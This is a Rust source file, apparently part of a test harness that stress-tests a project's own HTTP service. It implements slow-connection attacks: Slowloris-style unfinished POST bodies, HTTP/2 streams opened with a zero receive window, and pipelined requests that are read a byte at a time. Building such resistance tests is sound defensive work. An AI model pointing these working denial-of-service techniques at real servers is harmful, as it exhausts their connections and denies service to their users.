//! Attacks by connections that hold what they have: bodies that do not end, answers that nobody reads.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::TcpStream;
use std::time::Duration;

use anyhow::Result;
use protocol::{CBOR, DEVICE_HEADER, PROOF_HEADER, limit, path};

use super::attacker::Attacker;
use crate::http::connect_from;

/// Number of connections with unfinished bodies from one address: with 64 addresses, nearly all that the
/// endpoint serves.
const SLOW_BODIES: usize = 140;
/// Number of connections from one address on which nobody reads.
const UNREAD: usize = 8;
/// Number of requests on each of them: as many as HTTP/2 allows here.
const STREAMS: u32 = 16;
/// Buffer for what arrives, in bytes: the least that the system gives.
const RECEIVE_BUFFER: usize = 2_304;
/// Interval at which each connection moves a byte.
const INTERVAL: Duration = Duration::from_secs(1);
/// Bytes with which a large body starts.
const LARGE_START: usize = limit::PUSH_BYTES - 1_000;

impl Attacker<'_> {
    /// Half of the bodies are a byte a second; the others are all there but for their end.
    pub(super) fn slow_bodies(&mut self) {
        let device = self.phone.key.public().device_id();
        let head = format!(
            "POST {} HTTP/1.1\r\nhost: a\r\ncontent-type: {CBOR}\r\ncontent-length: {}\r\n{DEVICE_HEADER}: {device}\r\n{PROOF_HEADER}: {}\r\n\r\n",
            path::STATEMENTS,
            limit::PUSH_BYTES,
            "0".repeat(128),
        )
        .into_bytes();
        let large = [head.as_slice(), &vec![0; LARGE_START]].concat();
        self.hold(SLOW_BODIES, None, |number| if number % 2 == 0 { &head } else { &large });
    }

    /// HTTP/2 requests without a window.
    pub(super) fn unread_streams(&mut self) {
        let requests = http2_requests(&self.shared.file, STREAMS);
        self.hold(UNREAD, Some(RECEIVE_BUFFER), |_| &requests);
    }

    /// Requests of HTTP/1.1, one behind the other, of which a byte is read now and then.
    pub(super) fn slow_readers(&mut self) {
        let request = format!("GET {} HTTP/1.1\r\nhost: a\r\n\r\n", self.shared.file);
        let requests = request.repeat(STREAMS as usize).into_bytes();
        self.hold(UNREAD, Some(RECEIVE_BUFFER), |_| &requests);
    }

    /// Holds `count` connections that each begin with some bytes, and opens those again that close.
    fn hold<'b>(&mut self, count: usize, buffer: Option<usize>, start: impl Fn(usize) -> &'b Vec<u8>) {
        let mut open: Vec<Option<TcpStream>> = (0..count).map(|_| None).collect();
        while !self.shared.is_over() {
            for (number, slot) in open.iter_mut().enumerate() {
                if self.shared.is_over() {
                    break;
                }
                if slot.as_mut().is_some_and(|stream| !is_open(stream, buffer.is_none())) {
                    *slot = None;
                    self.counts.add(&self.counts.broken);
                }
                if slot.is_none() {
                    *slot = self.begin(buffer, start(number)).ok();
                    self.counts.add(if slot.is_some() { &self.counts.done } else { &self.counts.broken });
                }
            }
            std::thread::sleep(INTERVAL);
        }
    }

    /// A connection with the start of what it sends.
    fn begin(&self, buffer: Option<usize>, start: &[u8]) -> Result<TcpStream> {
        let mut stream = connect_from(self.shared.attack.url, self.own, buffer)?;
        stream.set_write_timeout(Some(INTERVAL))?;
        stream.write_all(start)?;
        stream.set_nonblocking(true)?;
        Ok(stream)
    }
}

/// Moves one byte. Whether the connection still is open.
fn is_open(stream: &mut TcpStream, writes: bool) -> bool {
    let moved = if writes { stream.write(&[0]) } else { stream.read(&mut [0]) };
    match moved {
        Ok(bytes) => bytes > 0,
        Err(error) => error.kind() == ErrorKind::WouldBlock,
    }
}

/// The start of an HTTP/2 connection that grants no window, with some requests (RFC 9113, RFC 7541).
fn http2_requests(path: &str, count: u32) -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    // SETTINGS: INITIAL_WINDOW_SIZE (4) = 0.
    bytes.extend([0, 0, 6, 4, 0, 0, 0, 0, 0, 0, 4, 0, 0, 0, 0]);
    for request in 0..count {
        // `:method GET`, `:scheme http`, and the literals `:path` and `:authority a`.
        let mut headers = vec![0x82, 0x86, 0x04, u8::try_from(path.len()).unwrap_or(0x7e)];
        headers.extend(path.bytes());
        headers.extend([0x01, 1, b'a']);
        bytes.extend([0, 0, u8::try_from(headers.len()).unwrap_or(u8::MAX), 1, 5]);
        bytes.extend((2 * request + 1).to_be_bytes());
        bytes.extend(headers);
    }
    bytes
}
